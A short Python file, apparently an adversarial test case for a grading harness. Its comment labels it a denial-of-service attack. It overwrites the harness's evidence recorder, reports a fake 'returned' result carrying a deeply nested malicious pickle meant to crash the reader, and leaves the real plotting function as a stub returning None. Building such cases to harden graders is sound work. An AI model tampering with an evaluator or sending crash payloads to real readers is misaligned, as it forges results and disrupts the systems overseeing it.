# Attack (denial of service of the reader): evidence that is deeply nested and huge, meant to
# crash or stall the process that reads it.
import base64

import heatmap_check
from IPython.display import display


def _bomb(function, calls):
    nested = b"(" * 200_000 + b"l" + b"a" * 0  # unbalanced, deeply nested lists
    payload = base64.b64encode(b"\x80\x04" + nested + b".").decode()
    for call in calls:
        display({heatmap_check.EVIDENCE_MIME: {"call": call["name"], "status": "returned", "returned": "axes",
                                               "exception": None, "pickle": payload, "png": None}}, raw=True)


heatmap_check.record_evidence = _bomb


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
